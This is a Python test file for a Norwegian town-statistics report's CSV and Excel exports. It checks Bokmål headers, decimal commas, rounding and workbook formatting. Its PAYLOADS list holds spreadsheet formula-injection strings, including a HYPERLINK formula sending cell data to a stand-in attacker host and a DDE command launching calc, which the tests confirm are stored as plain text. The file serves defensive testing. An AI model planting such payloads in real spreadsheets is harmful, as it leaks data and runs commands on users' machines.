"""The downloads: CSV and XLSX for Norwegian Excel, CSV for programs, and no cell that a
spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import zipfile
from datetime import UTC, datetime

from openpyxl import load_workbook

from flows.publish.downloads import write_csvs, write_workbook
from flows.publish.marts import ReportData

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]


def _data() -> ReportData:
    rows = [{"indicator_id": f"x{i}", "name_nb": payload, "value": -1.5}
            for i, payload in enumerate(PAYLOADS)]  # fmt: skip
    return ReportData(marts={"dim_indicator": rows, "town_profile": rows})


def _indicators() -> list[dict]:
    return [
        {"indicator_id": "population", "name_nb": "Folketall", "unit": "persons", "decimals": 0},
        {
            "indicator_id": "births_per_1000",
            "name_nb": "Fødte per 1000",
            "unit": "per_1000",
            "decimals": 1,
        },
        {
            "indicator_id": "share_age_67_plus",
            "name_nb": "Andel 67 år og eldre",
            "unit": "percent",
            "decimals": 2,
        },
    ]


def _report() -> ReportData:
    values = [
        {
            "geo_code": "bodo",
            "year": 2026,
            "indicator_id": "births_per_1000",
            "value": 9.51117009511,
            "numerator": 520.0,
            "is_suppressed": False,
            "origin": "official",
        },
        {
            "geo_code": "bodo",
            "year": 2026,
            "indicator_id": "share_age_67_plus",
            "value": -0.0000261234,
            "numerator": None,
            "is_suppressed": True,
            "origin": "sample",
        },
        {
            "geo_code": "bodo",
            "year": 2026,
            "indicator_id": "population",
            "value": 53638.0,
            "numerator": 53638.0,
            "is_suppressed": False,
            "origin": "official",
        },
    ]
    profile = [{"town_id": "bodo", "year": 2026, "population": 53638.0,
                "population_change_1y": 1234567890123456.0, "population_rank": 1,
                "share_age_67_plus": 18.123456789, "origin": "official"}]  # fmt: skip
    towns = [{"town_id": "bodo", "town_name": "Bodø", "sort_order": 1}]
    loads = [{"load_id": "l1", "loaded_at": datetime(2026, 11, 26, 13, 0, tzinfo=UTC),
              "is_used": True, "origin": "official"}]  # fmt: skip
    return ReportData(
        marts={
            "dim_town": towns,
            "dim_indicator": _indicators(),
            "fct_indicator_values": values,
            "town_profile": profile,
            "source_loads": loads,
        }
    )


def _read(path) -> tuple[bytes, list[list[str]]]:
    raw = path.read_bytes()
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return raw, list(csv.reader(handle, delimiter=";"))


# ------------------------------------------------------------------------ formulas stay text
def test_csv_cells_that_look_like_formulas_are_written_as_text(tmp_path):
    write_csvs(_data(), tmp_path)
    _, rows = _read(tmp_path / "town_profile.csv")
    assert rows[0] == ["Indikator (id)", "Navn (bokmål)", "Verdi"]
    assert [r[1] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert {r[2] for r in rows[1:]} == {"-1,5"}  # numbers stay numbers
    with (tmp_path / "machine" / "town_profile.csv").open(encoding="utf-8") as handle:
        machine = list(csv.DictReader(handle))
    assert [r["name_nb"] for r in machine] == ["'" + p for p in PAYLOADS]
    assert {r["value"] for r in machine} == {"-1.5"}


def test_xlsx_cells_that_look_like_formulas_are_strings_not_formulas(tmp_path):
    path = tmp_path / "bymonitor.xlsx"
    write_workbook(_data(), path)
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) for n in sheets)  # no formula element anywhere
    workbook = load_workbook(path)
    sheet = workbook["town_profile"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == PAYLOADS
    assert {c.data_type for c in cells} == {"s"}
    assert [row[2].value for row in sheet.iter_rows(min_row=2)] == [-1.5] * len(PAYLOADS)


# ------------------------------------------------------------------------ CSV for Excel
def test_csv_for_excel_has_bom_semicolons_and_headers_in_bokmaal(tmp_path):
    write_csvs(_report(), tmp_path)
    raw, rows = _read(tmp_path / "fct_indicator_values.csv")
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.split(b"\r\n")[0].count(b";") == 6 and b"," not in raw.split(b"\r\n")[0]
    assert rows[0] == ["Geografisk kode", "År", "Indikator (id)", "Verdi", "Teller",
                       "Skjult (for få svar)", "Opphav"]  # fmt: skip
    _, towns = _read(tmp_path / "dim_town.csv")
    assert towns[1] == ["bodo", "Bodø", "1"]
    assert "Bodø".encode() in (tmp_path / "dim_town.csv").read_bytes()


def test_csv_for_excel_rounds_as_the_report_with_decimal_comma_and_ja_nei(tmp_path):
    write_csvs(_report(), tmp_path)
    raw, rows = _read(tmp_path / "fct_indicator_values.csv")
    values = {r[2]: r for r in rows[1:]}
    assert values["births_per_1000"][3:6] == ["9,5", "520", "nei"]
    assert values["share_age_67_plus"][3:6] == ["0,00", "", "ja"]  # no "-0,00"
    assert values["population"][3:5] == ["53638", "53638"]
    assert [r[-1] for r in rows[1:]] == ["official", "sample", "official"]
    for text in (raw.decode("utf-8-sig"), (tmp_path / "town_profile.csv").read_text("utf-8-sig")):
        assert "e-" not in text.lower() and "e+" not in text.lower()
        assert "True" not in text and "False" not in text
    _, profile = _read(tmp_path / "town_profile.csv")
    assert profile[0][2:6] == ["Folketall", "Folketall, endring 1 år", "Folketall, rangering",
                               "Andel 67 år og eldre"]  # fmt: skip
    assert profile[1][2:6] == ["53638", "1234567890123456", "1", "18,12"]
    _, loads = _read(tmp_path / "source_loads.csv")
    assert loads[1][1:3] == ["2026-11-26 13:00:00", "ja"]


def test_machine_csv_keeps_ids_and_full_precision(tmp_path):
    write_csvs(_report(), tmp_path)
    path = tmp_path / "machine" / "fct_indicator_values.csv"
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["geo_code", "year", "indicator_id", "value", "numerator",
                             "is_suppressed", "origin"]  # fmt: skip
    assert [float(r["value"]) for r in rows] == [9.51117009511, -0.0000261234, 53638.0]
    assert rows[1]["value"] == "-0.0000261234"  # fixed point, every digit
    assert [r["is_suppressed"] for r in rows] == ["false", "true", "false"]
    readme = (tmp_path / "machine" / "README.txt").read_text(encoding="utf-8")
    assert "data/machine/" in readme and "bymonitor.xlsx" in readme


# ------------------------------------------------------------------------ the workbook
def test_xlsx_has_bokmaal_headers_frozen_filters_widths_and_number_formats(tmp_path):
    path = tmp_path / "bymonitor.xlsx"
    write_workbook(_report(), path)
    workbook = load_workbook(path)
    assert workbook.sheetnames[0] == "definisjoner"
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}" \
            f"{sheet.max_row}", sheet.title  # fmt: skip
        assert all(c.font.bold for c in sheet[1]), sheet.title
    values = workbook["fct_indicator_values"]
    header = [c.value for c in values[1]]
    assert header == ["Geografisk kode", "År", "Indikator (id)", "Verdi", "Teller",
                      "Skjult (for få svar)", "Opphav"]  # fmt: skip
    births = values[2]
    assert births[3].value == 9.51117009511 and births[3].number_format == "#,##0.0"
    assert values[3][3].number_format == "#,##0.00" and values[4][3].number_format == "#,##0"
    assert births[1].value == 2026 and births[1].number_format == "0"  # a year: no separator
    assert births[5].value == "nei" and values[3][5].value == "ja"
    assert values.column_dimensions["A"].width >= len("Geografisk kode")
    assert values.column_dimensions["F"].width >= len("Skjult (for få svar)")
    definitions = workbook["definisjoner"]
    assert [c.value for c in definitions[1]][:3] == ["Indikator (id)", "Navn (bokmål)",
                                                     "Navn (engelsk)"]  # fmt: skip
    assert definitions.max_row == 1 + len(_indicators())
    loaded = workbook["source_loads"][2][1]
    assert loaded.value == datetime(2026, 11, 26, 13, 0) and loaded.is_date
